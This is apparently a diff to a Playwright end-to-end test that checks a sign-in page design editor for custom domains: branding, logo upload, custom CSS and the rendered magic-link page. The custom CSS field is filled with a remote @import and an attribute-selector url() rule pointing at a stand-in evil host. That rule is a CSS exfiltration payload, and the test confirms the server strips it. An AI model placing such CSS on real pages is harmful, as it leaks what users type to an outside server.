@@ -8,6 +8,7 @@
 import { startDnsServer, type TestDnsServer } from '../../server/src/test/dns-server';
 import { gql, signInToken } from './support/accounts';
 import { expectNoSeriousA11yViolations } from './support/axe';
+import { makePng } from './support/png';
 import { expect, test } from './support/test';
 
 const PORT = Number(process.env.E2E_PORT ?? 4100);
@@ -97,6 +98,54 @@ test('domains: add with the format rule, follow the instructions, verify by DNS,
   await expect(hub.getByRole('heading', { name: 'This domain is not connected' })).toBeVisible();
   await expectNoSeriousA11yViolations(hub);
   await hub.close();
+
+  // Its sign-in page design: brand, content and custom CSS (with an @import the server removes).
+  await card.getByRole('link', { name: `Sign-in design of ${DOMAIN}` }).click();
+  await expect(page.getByRole('heading', { name: `${DOMAIN} Sign In Experience Design` })).toBeVisible();
+  await expect(page.getByRole('tab', { name: 'Sign In Experience' })).toHaveAttribute('aria-selected', 'true');
+  await page.getByRole('textbox', { name: 'Company name' }).fill('Typed then cancelled');
+  await page.getByRole('button', { name: 'Cancel' }).click();
+  await expect(page.getByRole('textbox', { name: 'Company name' })).toHaveValue('');
+  await page.getByRole('textbox', { name: 'Company name' }).fill('Demo Academy');
+  await page.locator('.logo-drop input[type=file]').setInputFiles({ name: 'logo.png', mimeType: 'image/png', buffer: makePng(40, 20, [14, 124, 116]) });
+  await expect(page.getByRole('img', { name: 'Company logo' })).toBeVisible();
+  await expect(page.getByText('SVG, PNG, JPG or GIF (max 400*800px)')).toBeVisible();
+  await page.getByRole('textbox', { name: 'Heading text' }).fill('Welcome to Demo Academy');
+  await page.getByRole('textbox', { name: 'Sub headline' }).fill('Type your work e-mail and we will send you a sign-in link.');
+  await page
+    .getByRole('textbox', { name: 'Custom CSS' })
+    .fill('@import url("https://evil.e2e-domains.test/x.css");\nh1 { color: rgb(200, 0, 0); }\ninput[value^="a"] { background: url(https://evil.e2e-domains.test/a) }');
+  await page.getByRole('button', { name: 'Save Changes' }).click();
+  await expect(page.getByText('Sign-in design saved.')).toBeVisible();
+  const removedList = page.getByRole('status').filter({ hasText: 'Removed from your CSS when it was saved:' });
+  await expect(removedList).toContainText('@import loads another stylesheet');
+  await expect(removedList).toContainText('url() may only hold an inline PNG');
+  await expect(page.getByRole('textbox', { name: 'Custom CSS' })).toHaveValue('.signin-design h1 { color: rgb(200, 0, 0); }');
+  // The saved logo replaces the picked file's preview.
+  await expect(page.getByRole('img', { name: 'Company logo' })).toHaveAttribute('src', /^\/uploads\//);
+  await expect(page.getByRole('img', { name: 'Company logo' })).toHaveJSProperty('complete', true);
+  await page.screenshot({ path: '/tmp/shots/design-wide.png', fullPage: true });
+  await expectNoSeriousA11yViolations(page);
+
+  // The spec's second address for the same page.
+  const designUrl = page.url();
+  await page.goto(designUrl.replace(/\/settings\/domain\/([^/]+)\/domainConfiguration$/, '/domains/$1/domain_page_configuration'));
+  await expect(page).toHaveURL(designUrl);
+
+  // The magic-link page on that domain wears the design; on the app's own address it does not.
+  const signIn = await page.context().newPage();
+  await signIn.goto(`http://${DOMAIN}:${PORT}/demo/passwordless_sign_in`);
+  await expect(signIn.getByRole('heading', { level: 1, name: 'Welcome to Demo Academy' })).toBeVisible();
+  await expect(signIn.getByText('Type your work e-mail and we will send you a sign-in link.')).toBeVisible();
+  await expect(signIn.getByText('Demo Academy', { exact: true })).toBeVisible();
+  await expect(signIn.getByRole('img', { name: 'Demo Academy logo' })).toBeVisible();
+  await expect(signIn.getByRole('heading', { level: 1 })).toHaveCSS('color', 'rgb(200, 0, 0)');
+  await signIn.screenshot({ path: '/tmp/shots/design-signin.png' });
+  await expectNoSeriousA11yViolations(signIn);
+  await signIn.goto('/demo/passwordless_sign_in');
+  await expect(signIn.getByRole('heading', { level: 1, name: 'Looks like you need a new link' })).toBeVisible();
+  await signIn.close();
+  await page.goto('/demo/settings/domain');
 
   // Rename: pending again. Then delete, with the spec's question.
   await card.getByRole('button', { name: `Edit ${DOMAIN}` }).click();
